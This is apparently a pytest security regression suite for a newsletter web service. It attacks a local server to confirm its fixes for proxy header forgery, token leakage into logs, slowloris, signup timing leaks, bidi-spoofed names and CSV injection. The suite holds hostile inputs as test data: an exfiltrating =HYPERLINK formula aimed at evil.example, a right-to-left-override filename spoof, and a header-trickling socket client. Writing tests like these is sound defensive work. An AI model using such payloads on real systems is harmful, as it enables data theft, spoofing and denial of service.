"""Attacks on the web pages, each performed for real: a running ``newsletter serve`` or
uvicorn on 127.0.0.1, a database file, real sockets, the real CLI.

Each test failed before its fix: drafts were previewed through the proxy,
X-Forwarded-For from loopback was believed, tokens were in the access log, a
slow client held a connection for ever, the signup answered faster for a
confirmed address, and names and CSV cells went out as typed.
"""

from __future__ import annotations

import csv
import io
import json
import random
import shutil
import socket
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from pathlib import Path

import httpx
import pytest

from newsletter.content.editions import build_edition
from newsletter.content.preview import sample_recipient
from newsletter.content.templates import templates_dir
from newsletter.core.config import Settings
from newsletter.web.preview import PreviewCache
from subscribers import store
from subscribers.model import Subscriber
from tests.plugins.smtp import SMTPServer
from tests.support.cli import CLIResult
from tests.support.sample_editions import NOW as SAMPLE_NOW
from tests.support.web import (
    WebEnv,
    add_confirmed,
    csrf_token,
    free_port,
    make_env,
    running_server,
    serve_process,
    wait_for,
)

SECRET = "test-secret-key-not-for-production"


def _serve_env(settings: Settings, smtp_server: SMTPServer, **extra: str) -> dict[str, str]:
    env = {
        "NEWSLETTER_DATABASE_URL": settings.database_url,
        "NEWSLETTER_SECRET_KEY": SECRET,
        "NEWSLETTER_BASE_URL": settings.base_url,
        "NEWSLETTER_SMTP_URL": smtp_server.url,
    }
    env.update({f"NEWSLETTER_{k.upper()}": v for k, v in extra.items()})
    return env


def _signup(
    http: httpx.Client, email: str, name: str = "", headers: dict[str, str] | None = None
) -> httpx.Response:
    form = http.get("/", headers=headers)
    data = {"csrf_token": csrf_token(form.text), "email": email, "name": name, "consent": "yes"}
    return http.post("/signup", data=data, headers=headers)


def _stored(env: WebEnv, email: str) -> Subscriber | None:
    with env.engine.connect() as conn:
        return store.find_by_email(conn, email)


@pytest.fixture
def web(settings: Settings, smtp_server: SMTPServer) -> Iterator[WebEnv]:
    """A database file with articles (and the app over it, for in-process checks)."""
    env = make_env(settings, smtp_server.url)
    yield env
    env.engine.dispose()


# --- 6: drafts behind the proxy --------------------------------------------------------


def test_a_draft_is_never_public_and_the_preview_listener_refuses_forwarded_requests(
    web: WebEnv, workdir: Path, smtp_server: SMTPServer
) -> None:
    with web.engine.begin() as conn:
        draft = build_edition(conn, now=SAMPLE_NOW, title="Secret Draft", site_name="News")
    preview_port = free_port()
    env = _serve_env(web.settings, smtp_server)
    with serve_process(workdir, env, "--preview-port", str(preview_port)) as server:
        # what the reverse proxy passes on: a public request, arriving from loopback
        for path in (f"/preview/{draft.id}", f"/newsletter/preview/{draft.id}/html"):
            public = httpx.get(
                server.url + path, headers={"X-Forwarded-For": "203.0.113.9"}, timeout=30
            )
            assert public.status_code == 404, path
            assert "Secret Draft" not in public.text
        editors = f"http://127.0.0.1:{preview_port}/preview/{draft.id}"
        for forwarded in (
            {"X-Forwarded-For": "203.0.113.9"},
            {"Forwarded": "for=203.0.113.9;proto=https"},
            {"X-Forwarded-Proto": "https"},
            {"X-Forwarded-Host": "news.example.com"},
        ):
            refused = httpx.get(editors, headers=forwarded, timeout=30)
            assert refused.status_code == 403, forwarded
            assert "Secret Draft" not in refused.text
        local = httpx.get(editors, timeout=60)
        assert local.status_code == 200
        assert "Secret Draft" in local.text
        assert "Story 1: council votes" in httpx.get(editors + "/text", timeout=60).text


def test_a_preview_is_rendered_once_per_edition_and_template_version(
    web: WebEnv, tmp_path: Path
) -> None:
    folder = tmp_path / "templates"
    shutil.copytree(templates_dir(), folder)
    with web.engine.begin() as conn:
        edition = build_edition(conn, now=SAMPLE_NOW, site_name="News")
    cache = PreviewCache()
    reader = sample_recipient(web.settings)
    first = cache.document(web.settings, edition, reader, folder)
    for _ in range(5):  # reloads, or a flood of them, cost a lookup
        assert cache.document(web.settings, edition, reader, folder) is first
    assert cache.renders == 1
    digest = folder / "email" / "digest.html"
    digest.write_text(digest.read_text(encoding="utf-8") + "\n{# edited #}\n", encoding="utf-8")
    assert cache.document(web.settings, edition, reader, folder) is not first
    assert cache.renders == 2
    retitled = edition.model_copy(update={"subject": "A new subject"})
    assert "A new subject" in cache.document(web.settings, retitled, reader, folder).eml.decode()
    assert cache.renders == 3


# --- 7: forwarded headers and the signup limit ------------------------------------------


def test_a_forged_x_forwarded_for_neither_dodges_the_limit_nor_fakes_the_consent_ip(
    web: WebEnv, workdir: Path, smtp_server: SMTPServer
) -> None:
    env = _serve_env(web.settings, smtp_server)
    with ExitStack() as stack:
        # two `serve` processes on one database share the limit
        servers = [stack.enter_context(serve_process(workdir, env)) for _ in range(2)]
        clients = [stack.enter_context(httpx.Client(base_url=s.url, timeout=30)) for s in servers]
        codes = [
            _signup(
                clients[n % 2],
                f"rotate{n}@example.com",
                headers={"X-Forwarded-For": f"198.51.100.{n + 1}"},
            ).status_code
            for n in range(12)
        ]
        assert codes == [200] * 10 + [429, 429]
        wait_for(lambda: _stored(web, "rotate9@example.com") is not None, "the signups")
    for n in range(10):
        person = _stored(web, f"rotate{n}@example.com")
        assert person is not None
        assert person.consent is not None
        assert person.consent.ip == "127.0.0.1"  # the real peer, not the forged header
    # the limit survives a restart
    with serve_process(workdir, env) as server, httpx.Client(base_url=server.url) as http:
        assert _signup(http, "after.restart@example.com").status_code == 429


def test_a_trusted_proxy_names_the_client_and_nobody_else_can(
    web: WebEnv, workdir: Path, smtp_server: SMTPServer
) -> None:
    env = _serve_env(web.settings, smtp_server, trusted_proxies="127.0.0.1")
    with serve_process(workdir, env) as server, httpx.Client(base_url=server.url) as http:
        # the proxy appends the address it saw; what the client put before it is not believed
        chain = {"X-Forwarded-For": "10.6.6.6, 203.0.113.7"}
        assert _signup(http, "proxied@example.com", headers=chain).status_code == 200
        wait_for(lambda: _stored(web, "proxied@example.com") is not None, "the signup")
    person = _stored(web, "proxied@example.com")
    assert person is not None
    assert person.consent is not None
    assert person.consent.ip == "203.0.113.7"


# --- 10: tokens in logs ------------------------------------------------------------------


def test_link_tokens_never_reach_the_log(
    web: WebEnv, workdir: Path, smtp_server: SMTPServer
) -> None:
    tokens = {
        "unsubscribe": "u.2a.6650f1c3.Zk3Lq9vT2wXyAbCdEfGhIj",
        "preferences": "p.2a.6650f1c3.Qm7Rt1uV3wXyAbCdEfGhIj",
        "confirm": "c.2a.6650f1c3.Hn4Jk6lM8wXyAbCdEfGhIj",
    }
    with serve_process(workdir, _serve_env(web.settings, smtp_server)) as server:
        with httpx.Client(base_url=server.url, timeout=30) as http:
            for route, token in tokens.items():
                http.get(f"/{route}/{token}")
                http.get(f"/newsletter/{route}/{token}?from=email")
            http.post(f"/unsubscribe/{tokens['unsubscribe']}", content=b"x")
            http.get("/healthz")
        server.proc.terminate()
        server.proc.wait(timeout=30)
        log = server.log()
    assert "GET /healthz" in log  # the access log is on
    for route, token in tokens.items():
        assert token not in log
        assert token.split(".")[-1] not in log
        assert f"/{route}/[redacted]" in log


# --- 11: slowloris -------------------------------------------------------------------------


def _closed_within(sock: socket.socket, limit: float, trickle: bytes) -> float | None:
    """Trickle bytes every quarter second; the seconds until the server hung up, or None."""
    start = time.monotonic()
    sock.settimeout(0.25)
    while time.monotonic() - start < limit:
        try:
            if sock.recv(4096) == b"":
                return time.monotonic() - start
        except TimeoutError:
            pass
        except ConnectionError:
            return time.monotonic() - start
        try:
            sock.sendall(trickle)
        except OSError:
            return time.monotonic() - start
    return None


def test_a_client_that_trickles_its_headers_is_cut_off(
    web: WebEnv, workdir: Path, smtp_server: SMTPServer
) -> None:
    env = _serve_env(web.settings, smtp_server)
    with serve_process(workdir, env, "--header-timeout", "1") as server:
        port = int(server.url.rsplit(":", 1)[1])
        with socket.create_connection(("127.0.0.1", port), timeout=5) as slow:
            slow.sendall(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n")
            took = _closed_within(slow, 8.0, b"X-Slow: 1\r\n")
        assert took is not None, "the server kept a half-sent request open"
        assert took < 4.0
        # a kept-alive connection that starts a second request and stalls is cut off too
        with socket.create_connection(("127.0.0.1", port), timeout=5) as kept:
            kept.sendall(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
            assert kept.recv(4096).startswith(b"HTTP/1.1 200")
            kept.sendall(b"GET /healthz HTTP/1.1\r\n")
            took = _closed_within(kept, 8.0, b"X")
        assert took is not None
        assert took < 4.0
        # an ordinary client is served as before
        assert httpx.get(server.url + "/healthz", timeout=30).status_code == 200


# --- 11: what the signup answer tells --------------------------------------------------


def test_signup_timing_does_not_tell_a_confirmed_address_from_a_new_one(
    web: WebEnv, smtp_server: SMTPServer
) -> None:
    add_confirmed(web, "known@example.com", name="Known")
    ctx = web.app.state.web
    ctx.signup_limiter.limit = ctx.email_limiter.limit = 100_000  # measure, not be limited
    order = random.Random(20240601)
    with running_server(web.app) as base, httpx.Client(base_url=base, timeout=30) as http:
        token = csrf_token(http.get("/").text)

        def probe(email: str) -> float:
            sent = len(smtp_server.received)
            data = {"csrf_token": token, "email": email, "name": "", "consent": "yes"}
            start = time.perf_counter()
            answer = http.post("/signup", data=data)
            took = time.perf_counter() - start
            assert answer.status_code == 200
            # whatever happens after the answer is over before the next probe
            wait_for(lambda: len(smtp_server.received) > sent, "the signup's email")
            return took

        for n in range(3):  # warm up both paths
            probe("known@example.com")
            probe(f"warm{n}@example.com")
        pairs = 80
        new_slower = 0
        for n in range(pairs):
            if order.random() < 0.5:
                known = probe("known@example.com")
                new = probe(f"new{n:02d}@example.com")
            else:
                new = probe(f"new{n:02d}@example.com")
                known = probe("known@example.com")
            new_slower += new > known
    # With the signup recorded before the answer (the leak this guards against) a new
    # address is the slower one in 77-78 of 80 pairs (2-3 ms in 10). With the fix the
    # medians differ by under a quarter of a millisecond, yet on a quiet machine that
    # lean shows as up to 55-60% of pairs (64 of 80 was seen once). 14..66 tells the two
    # apart: even a 57% lean leaves it about once in a million runs.
    assert 14 <= new_slower <= 66, f"a new address was slower in {new_slower} of {pairs} pairs"


# --- 11: names that are not what they seem ----------------------------------------------


def test_encoded_words_are_refused_and_direction_controls_dropped_from_names(
    web: WebEnv, smtp_server: SMTPServer
) -> None:
    with running_server(web.app) as base, httpx.Client(base_url=base, timeout=30) as http:
        encoded = _signup(http, "enc@example.com", name="=?utf-8?b?UGF5UGFsIFNlY3VyaXR5?=")
        assert encoded.status_code == 400
        assert "Enter a name" in encoded.text
        reversed_name = "Ann \u202egnp.exe\u202c Lee"
        assert _signup(http, "bidi@example.com", name=reversed_name).status_code == 200
        wait_for(lambda: len(smtp_server.received) == 1, "the confirmation email")
    assert _stored(web, "enc@example.com") is None
    person = _stored(web, "bidi@example.com")
    assert person is not None
    assert person.name == "Ann gnp.exe Lee"
    message = smtp_server.received[0].message()
    assert "\u202e" not in str(message["To"])
    assert "Ann gnp.exe Lee" in str(message["To"])


# --- 8: a formula planted through the signup form ----------------------------------------


def test_a_formula_planted_through_the_signup_form_exports_as_text(
    web: WebEnv, workdir: Path, run_cli: Callable[..., CLIResult]
) -> None:
    planted = '=HYPERLINK("https://evil.example/?"&A2,"Click")'
    with running_server(web.app) as base, httpx.Client(base_url=base, timeout=30) as http:
        assert _signup(http, "planted@example.com", name=planted).status_code == 200
        wait_for(lambda: _stored(web, "planted@example.com") is not None, "the signup")
    exported = run_cli("subscribers", "export", "-o", "out.csv")
    assert exported.code == 0, exported.stderr
    rows = list(csv.reader(io.StringIO((workdir / "out.csv").read_text(encoding="utf-8"))))
    for row in rows:
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell
    (row,) = [r for r in rows[1:] if r[0] == "planted@example.com"]
    assert row[1] == "'" + planted
    # the export imports back to the name as typed
    again = {"NEWSLETTER_DATABASE_URL": f"sqlite:///{workdir / 'again.db'}"}
    assert run_cli("subscribers", "import", "out.csv", env=again).code == 0
    shown = run_cli("subscribers", "show", "planted@example.com", env=again)
    assert json.loads(shown.stdout)["subscriber"]["name"] == planted
